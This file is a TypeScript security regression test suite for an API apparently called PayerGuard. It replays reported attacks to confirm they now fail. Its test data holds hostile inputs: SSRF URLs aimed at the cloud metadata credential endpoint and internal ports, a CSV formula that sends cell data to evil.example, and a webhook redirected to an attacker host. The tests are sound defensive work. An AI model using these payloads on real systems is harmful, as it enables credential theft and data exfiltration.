import { spawnSync } from 'node:child_process';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { createServer as createTcpServer } from 'node:net';
import { hostname } from 'node:os';
import { schema } from '@payerguard/core';
import { getExport } from '@payerguard/core/exports/store';
import { deliverToWebhook } from '@payerguard/workers/exports/deliver';
import { parse } from 'csv-parse/sync';
import { count, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { http, loginAs, type Res, type SecurityStack, type Session, startSecurityStack, USERS } from './api.js';

/**
 * Issue 11, attack by attack, against the API on a real port (real Redis, the migrated database, the export
 * workers). Each test is the attack as it was reported; it passes only because the attack now fails.
 */

let s: SecurityStack;
let admin: Session;
let analyst: Session;
let admin2: Session;
const call = (method: string, path: string, o: Parameters<typeof http>[3] = {}) => http(s.base, method, path, o);
const inDays = (d: number) => new Date(Date.now() + d * 86_400_000).toISOString();

async function waitExport(id: string, session: Session): Promise<Res> {
  for (let i = 0; i < 600; i++) {
    const r = await call('GET', `/api/exports/${id}`, { session });
    if (r.json?.status !== 'pending') return r;
    await new Promise((res) => setTimeout(res, 100));
  }
  throw new Error(`export ${id} still pending`);
}

beforeAll(async () => {
  s = await startSecurityStack();
  admin = await loginAs(s.base, USERS.admin);
  analyst = await loginAs(s.base, USERS.analyst);
  const made = await call('POST', '/api/users', {
    session: admin,
    body: { email: 'second-admin@test.local', password: 'second-admin-password', role: 'admin' },
  });
  expect(made.status).toBe(201);
  admin2 = await loginAs(s.base, 'second-admin@test.local', 'second-admin-password');
  // A database, fixtures scored by the engine, workers and four argon2 logins: slow on a busy machine.
}, 300_000);
afterAll(async () => s?.close());

describe('1. the read-only analyst writes nothing; risk acceptance is bounded and two-person for critical controls', () => {
  it('every unsafe route refuses the analyst, except their own session, their own tokens and exports of what they may read', async () => {
    const allowed = new Set([
      'POST /api/auth/logout',
      'POST /api/tokens',
      'DELETE /api/tokens/:id',
      'POST /api/exports',
    ]);
    const unsafe = s.h.app.routeTable.filter((r) => !['GET', 'HEAD', 'OPTIONS'].includes(r.method));
    expect(unsafe.length).toBeGreaterThan(15);
    const wrote: string[] = [];
    for (const r of unsafe) {
      if (allowed.has(`${r.method} ${r.url}`) || r.access === 'public') continue;
      const path = r.url.replace(':accountId', '999999999999').replace(/:id/g, 'alpha');
      const res = await call(r.method, path, { session: analyst, body: {} }).catch((e: Error) => ({
        status: e.message,
      }));
      if (res.status !== 403) wrote.push(`${r.method} ${r.url} -> ${res.status}`);
    }
    expect(wrote).toEqual([]);
  });

  it('the analyst cannot suppress a critical failure or start a run', async () => {
    const body = {
      partnerId: 'alpha',
      controlId: 'OWN-ROOT-EMAIL-DOMAIN',
      reason: 'looks fine',
      expiresAt: inDays(30),
    };
    expect((await call('POST', '/api/suppressions', { session: analyst, body })).status).toBe(403);
    expect((await call('POST', '/api/runs', { session: analyst })).status).toBe(403);
  });

  it('the approver is the signed-in admin, the expiry is bounded, and a critical control waits for a second admin', async () => {
    const body = {
      partnerId: 'alpha',
      controlId: 'OWN-ROOT-EMAIL-DOMAIN',
      reason: 'domain migration CHG-42',
      expiresAt: inDays(30),
      approver: 'someone-else@distributor.example',
    };
    expect(
      (await call('POST', '/api/suppressions', { session: admin, body: { ...body, expiresAt: inDays(400) } })).status,
    ).toBe(400);
    const { expiresAt: _e, ...noExpiry } = body;
    expect((await call('POST', '/api/suppressions', { session: admin, body: noExpiry })).status).toBe(400);
    const c = await call('POST', '/api/suppressions', { session: admin, body });
    expect(c.status).toBe(201);
    expect(c.json).toMatchObject({
      approver: USERS.admin,
      createdBy: USERS.admin,
      status: 'pending',
      approvedAt: null,
    });
    // Pending: the partner page shows it waiting, with who and why, and it is not applied.
    const page = await call('GET', '/api/partners/alpha', { session: analyst });
    const shown = page.json.suppressions.find((x: { id: string }) => x.id === c.json.id);
    expect(shown).toMatchObject({ status: 'pending', createdBy: USERS.admin, reason: body.reason });
    // One person alone cannot accept a critical risk.
    expect((await call('POST', `/api/suppressions/${c.json.id}/approve`, { session: admin })).status).toBe(403);
    expect((await call('POST', `/api/suppressions/${c.json.id}/approve`, { session: analyst })).status).toBe(403);
    const ok = await call('POST', `/api/suppressions/${c.json.id}/approve`, { session: admin2 });
    expect(ok.status).toBe(200);
    expect(ok.json).toMatchObject({ status: 'active', secondApprover: 'second-admin@test.local' });
    const log = await call('GET', '/api/audit?limit=50', { session: admin });
    const actions = log.json.entries.map((e: { action: string }) => e.action);
    expect(actions).toEqual(expect.arrayContaining(['suppression.request', 'suppression.approve']));
    expect((await call('DELETE', `/api/suppressions/${c.json.id}`, { session: admin })).status).toBe(200);
  });
});

describe('3. SSRF through deliveries', () => {
  const schedule = (url: string) => ({
    name: 'ssrf',
    cron: '0 6 * * 1',
    format: 'csv',
    delivery: { webhook: { url } },
  });

  it('refuses loopback, link-local, private, 0.0.0.0 and local names at save time', async () => {
    for (const url of [
      'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
      'http://127.0.0.1:6379/',
      'http://0.0.0.0:8080/',
      'http://10.0.0.8/hook',
      'http://192.168.1.1/',
      'http://[::1]:5432/',
      'http://[::ffff:127.0.0.1]/',
      'http://localhost:8080/',
    ]) {
      const r = await call('POST', '/api/export-schedules', { session: admin, body: schedule(url) });
      expect(r.status, url).toBe(400);
      expect(r.json.message, url).toMatch(/loopback, link-local, private/);
    }
  });

  it('refuses at connect time a name that resolves to a private address, and records no network detail', async () => {
    let hits = 0;
    const rx = createServer((req, res) => {
      hits++;
      req.resume();
      res.end('ok');
    });
    await new Promise<void>((r) => rx.listen(0, '127.0.0.1', r));
    const port = (rx.address() as AddressInfo).port;
    // This machine's own name resolves to loopback: it passes the save-time check (it is a name), not the connect.
    const url = `http://${hostname()}:${port}/hook`;
    const saved = await call('POST', '/api/export-schedules', { session: admin, body: schedule(url) });
    expect(saved.status).toBe(201);
    const ex = await call('POST', '/api/exports', { session: admin, body: { format: 'csv' } });
    const ready = await waitExport(ex.json.id, admin);
    const rec = (await getExport(s.h.database.db, ready.json.id))!;
    await expect(deliverToWebhook(s.h.database.db, rec, url, 'whsec_test')).rejects.toThrow(
      /refused: deliveries may not go to loopback/,
    );
    expect(hits).toBe(0);
    // With private networks allowed (an operator's choice), a closed port and a non-HTTP port read the same.
    const closed = await deliverToWebhook(s.h.database.db, rec, 'http://127.0.0.1:9/x', 's', {
      allowPrivateNetworks: true,
    }).catch((e: Error) => e.message);
    const tcp = createTcpServer((sock) => sock.destroy());
    await new Promise<void>((r) => tcp.listen(0, '127.0.0.1', r));
    const open = await deliverToWebhook(
      s.h.database.db,
      rec,
      `http://127.0.0.1:${(tcp.address() as AddressInfo).port}/x`,
      's',
      { allowPrivateNetworks: true },
    ).catch((e: Error) => e.message);
    expect(closed.replace(/:\d+\//, ':P/')).toBe(open.replace(/:\d+\//, ':P/'));
    expect(closed).not.toMatch(/ECONNREFUSED|ECONNRESET|socket hang up/);
    rx.close();
    tcp.close();
  });

  it('masks webhook secrets for analysts and puts delivery changes in the audit log', async () => {
    const c = await call('POST', '/api/export-schedules', {
      session: admin,
      body: schedule('https://hooks.example.com/services/T000/B000/XXXXSECRET?token=abc123'),
    });
    expect(c.status).toBe(201);
    const seen = await call('GET', `/api/export-schedules/${c.json.schedule.id}`, { session: analyst });
    expect(seen.text).not.toMatch(/XXXXSECRET|abc123/);
    expect(seen.json.delivery.webhook.url).toBe('https://hooks.example.com/services/***/***/***?token=***');
    const moved = await call('PUT', `/api/export-schedules/${c.json.schedule.id}`, {
      session: admin,
      body: schedule('https://attacker.example.net/collect'),
    });
    expect(moved.status).toBe(200);
    const log = await call('GET', '/api/audit?action=export_schedule.update', { session: admin });
    expect(log.json.entries[0].detail.deliveryChanged).toEqual({
      from: { webhook: { url: 'https://hooks.example.com/services/***/***/***?token=***' } },
      to: { webhook: { url: 'https://attacker.example.net/collect' } },
    });
    expect(log.text).not.toMatch(/XXXXSECRET|abc123/);
  });
});

describe('4. CSV formula injection', () => {
  it('a partner name starting with = + - @ tab or CR is never a formula in the CSV', async () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    expect((await call('PATCH', '/api/partners/alpha', { session: admin, body: { name: evil } })).status).toBe(200);
    const ex = await call('POST', '/api/exports', {
      session: admin,
      body: { format: 'csv', scope: { partnerId: 'alpha' } },
    });
    expect((await waitExport(ex.json.id, admin)).json.status).toBe('ready');
    const file = await call('GET', `/api/exports/${ex.json.id}/download`, { session: admin });
    const rows = parse(file.text, { columns: true }) as Record<string, string>[];
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows) expect(row.partner_name).toBe(`'${evil}`);
    await call('PATCH', '/api/partners/alpha', { session: admin, body: { name: 'Alpha Cloud Ltd' } });
  });
});

describe('5. lockout as a weapon, and account enumeration', () => {
  it('a stranger failing from another address cannot lock the owner out; unknown accounts answer alike', async () => {
    const owner = 'owner@test.local';
    await call('POST', '/api/users', {
      session: admin,
      body: { email: owner, password: 'owner-password-1', role: 'analyst' },
    });
    const guess = (email: string) =>
      call('POST', '/api/auth/login', { body: { email, password: 'guess' }, from: '127.0.0.66' });
    const real: Res[] = [];
    const ghost: Res[] = [];
    for (let i = 0; i < 7; i++) {
      real.push(await guess(owner));
      ghost.push(await guess('nobody-here@test.local'));
    }
    const shape = (r: Res) => `${r.status} ${r.json?.message?.replace(/\d+ minute/, 'N minute')}`;
    expect(real.map(shape)).toEqual(ghost.map(shape));
    expect(real.map((r) => r.status)).toEqual([401, 401, 401, 401, 401, 429, 429]);
    expect(real.some((r) => r.status === 423)).toBe(false);
    // The owner, from their own address, logs in at once.
    const mine = await call('POST', '/api/auth/login', {
      body: { email: owner, password: 'owner-password-1' },
      from: '127.0.0.2',
    });
    expect(mine.status).toBe(200);
  });
});

describe('6. tokens', () => {
  it('a password reset or disabling a user revokes its tokens', async () => {
    const made = await call('POST', '/api/users', {
      session: admin,
      body: { email: 'scripted@test.local', password: 'scripted-password', role: 'analyst' },
    });
    const me = await loginAs(s.base, 'scripted@test.local', 'scripted-password');
    const t1 = (await call('POST', '/api/tokens', { session: me, body: { name: 'ci' } })).json.token;
    expect((await call('GET', '/api/me', { token: t1 })).status).toBe(200);
    await call('PATCH', `/api/users/${made.json.id}`, { session: admin, body: { password: 'a-brand-new-password' } });
    expect((await call('GET', '/api/me', { token: t1 })).status).toBe(401);
    const me2 = await loginAs(s.base, 'scripted@test.local', 'a-brand-new-password');
    const t2 = (await call('POST', '/api/tokens', { session: me2, body: { name: 'ci2' } })).json.token;
    await call('PATCH', `/api/users/${made.json.id}`, { session: admin, body: { disabled: true } });
    await call('PATCH', `/api/users/${made.json.id}`, { session: admin, body: { disabled: false } });
    expect((await call('GET', '/api/me', { token: t2 })).status).toBe(401);
  });

  it('a token cannot mint a token that outlives it; revoking it takes its children; lifetimes are bounded', async () => {
    expect(
      (await call('POST', '/api/tokens', { session: analyst, body: { name: 'x', expiresInDays: 91 } })).status,
    ).toBe(400);
    const parent = await call('POST', '/api/tokens', { session: analyst, body: { name: 'p', expiresInDays: 2 } });
    expect(parent.status).toBe(201);
    const longer = await call('POST', '/api/tokens', {
      token: parent.json.token,
      body: { name: 'c', expiresInDays: 30 },
    });
    expect(longer.status).toBe(400);
    const child = await call('POST', '/api/tokens', { token: parent.json.token, body: { name: 'c' } });
    expect(child.status).toBe(201);
    expect(Date.parse(child.json.expiresAt)).toBeLessThanOrEqual(Date.parse(parent.json.expiresAt));
    // The child has the analyst's rights, no more.
    expect((await call('GET', '/api/users', { token: child.json.token })).status).toBe(403);
    expect((await call('DELETE', `/api/tokens/${parent.json.id}`, { session: analyst })).status).toBe(200);
    expect((await call('GET', '/api/me', { token: child.json.token })).status).toBe(401);
  });
});

describe('7. the smaller ones', () => {
  it('/api/health without a login shows only states and counts', async () => {
    await s.h.redis.set(
      `${s.h.prefix}:heartbeat:wsec`,
      JSON.stringify({
        workerId: 'wsec',
        pid: 4242,
        host: 'secret-host',
        startedAt: new Date().toISOString(),
        at: new Date().toISOString(),
        concurrency: 1,
        active: 0,
      }),
      'EX',
      30,
    );
    const anon = await call('GET', '/api/health');
    expect(anon.json.workers).toEqual({ alive: 1 });
    expect(anon.text).not.toMatch(/secret-host|4242|wsec/);
    expect((await call('GET', '/api/health', { session: admin })).text).toMatch(/secret-host/);
  });

  it('bodies are limited per route: a 300 KB login or settings body is refused, the registry import still takes MB', async () => {
    const big = 'x'.repeat(300 * 1024);
    expect(
      (await call('POST', '/api/auth/login', { raw: JSON.stringify({ email: 'a@b.c', password: big }) })).status,
    ).toBe(413);
    expect((await call('PUT', '/api/settings', { session: admin, raw: JSON.stringify({ pad: big }) })).status).toBe(
      413,
    );
    const imp = await call('POST', '/api/partners/import', {
      session: admin,
      raw: JSON.stringify({ registry: ' '.repeat(2 * 1024 * 1024), dryRun: true }),
    });
    expect(imp.status).not.toBe(413);
  });

  it('answers carrying ExternalIds are never cached', async () => {
    const r = await call('GET', '/api/partners/alpha/onboarding', { session: admin });
    expect(r.status).toBe(200);
    expect(r.text).toContain('externalId');
    expect(r.headers['cache-control']).toBe('no-store');
  });

  it('parallel run requests start one run; export creation is budgeted per user', async () => {
    const [a, b] = await Promise.all([
      call('POST', '/api/runs', { session: admin }),
      call('POST', '/api/runs', { session: admin }),
    ]);
    const ids = new Set([a, b].filter((r) => r.status < 300).map((r) => r.json.runId));
    expect(ids.size).toBe(1);
    expect([a.status, b.status].sort()).toEqual(expect.arrayContaining([202]));
    const [{ n }] = (await s.h.database.db
      .select({ n: count() })
      .from(schema.runs)
      .where(eq(schema.runs.requestedBy, USERS.admin))) as [{ n: number }];
    expect(n).toBe(1);
    const viewer = await loginAs(s.base, USERS.viewer);
    const codes: number[] = [];
    for (let i = 0; i < 22; i++)
      codes.push((await call('POST', '/api/exports', { session: viewer, body: { format: 'json' } })).status);
    expect(codes.filter((c) => c === 202)).toHaveLength(20);
    expect(codes.slice(20)).toEqual([429, 429]);
  });

  it('PAYERGUARD_DEMO=1 outside the demo command stops the API with one clear line', () => {
    const r = spawnSync(process.execPath, ['bin/payerguard.js', 'api'], {
      env: { ...process.env, PAYERGUARD_DEMO: '1', PORT: '18141' },
      encoding: 'utf8',
      timeout: 60_000,
    });
    expect(r.status).not.toBe(0);
    expect(r.stderr).toMatch(/PAYERGUARD_DEMO: demo mode is set by `payerguard demo` only/);
  });
});

describe('8. the collector trust policy', () => {
  it('names the hub principal that collects, not the whole hub account, and keeps the ExternalId condition', async () => {
    const r = await call('GET', '/api/partners/alpha/onboarding', { session: admin });
    const settings = (await call('GET', '/api/settings', { session: admin })).json;
    for (const p of r.json.payers) {
      const [stmt] = p.trustPolicy.Statement;
      expect(stmt.Principal).toEqual({ AWS: settings.hubPrincipalArn });
      expect(stmt.Principal.AWS).toMatch(/^arn:aws:iam::\d{12}:role\//);
      expect(stmt.Condition).toEqual({ StringEquals: { 'sts:ExternalId': p.externalId } });
    }
  });
});

describe('2. a reused partner id inherits nothing', () => {
  it('deleting a partner removes its data; a new partner with the same id sees no old snapshot, finding, evidence or export', async () => {
    const db = s.h.database.db;
    const oldViewer = await call('POST', '/api/users', {
      session: admin,
      body: { email: 'old-beta@test.local', password: 'old-beta-password', role: 'partner_viewer', partnerId: 'beta' },
    });
    expect(oldViewer.status).toBe(201);
    const ov = await loginAs(s.base, 'old-beta@test.local', 'old-beta-password');
    const oldExport = await call('POST', '/api/exports', { session: ov, body: { format: 'json' } });
    expect((await waitExport(oldExport.json.id, ov)).json.status).toBe('ready');
    const before = await call('GET', '/api/partners/beta', { session: admin });
    expect(before.json.history.length).toBeGreaterThan(0);

    const del = await call('DELETE', '/api/partners/beta', { session: admin });
    expect(del.status).toBe(200);
    const recreated = await call('POST', '/api/partners', {
      session: admin,
      body: { id: 'beta', name: 'A different company', payers: [{ payerAccountId: '888888888881' }] },
    });
    expect(recreated.status).toBe(201);
    // The old viewer's login went with the old partner.
    expect((await call('GET', '/api/me', { session: ov })).status).toBe(401);
    await call('POST', '/api/users', {
      session: admin,
      body: { email: 'new-beta@test.local', password: 'new-beta-password', role: 'partner_viewer', partnerId: 'beta' },
    });
    const nv = await loginAs(s.base, 'new-beta@test.local', 'new-beta-password');
    const page = await call('GET', '/api/partners/beta', { session: nv });
    expect(page.status).toBe(200);
    expect(page.json.history).toEqual([]);
    expect(page.json.findings ?? []).toEqual([]);
    expect(page.text).not.toContain('Beta Reseller GmbH');
    expect(page.text).not.toContain('777777777777');
    expect((await call('GET', '/api/findings?partnerId=beta', { session: nv })).json.findings ?? []).toEqual([]);
    expect((await call('GET', '/api/exports', { session: nv })).json.exports).toEqual([]);
    expect((await call('GET', `/api/exports/${oldExport.json.id}`, { session: nv })).status).toBe(404);
    for (const t of [schema.snapshots, schema.findings, schema.evidence, schema.runPayers, schema.exportsTable]) {
      const [row] = await db.select({ n: count() }).from(t).where(eq(t.partnerId, 'beta'));
      expect(Number(row?.n)).toBe(0);
    }
    const log = await call('GET', '/api/audit?action=partner.remove', { session: admin });
    expect(log.json.entries[0].detail.removed.snapshots).toBeGreaterThan(0);
  });
});
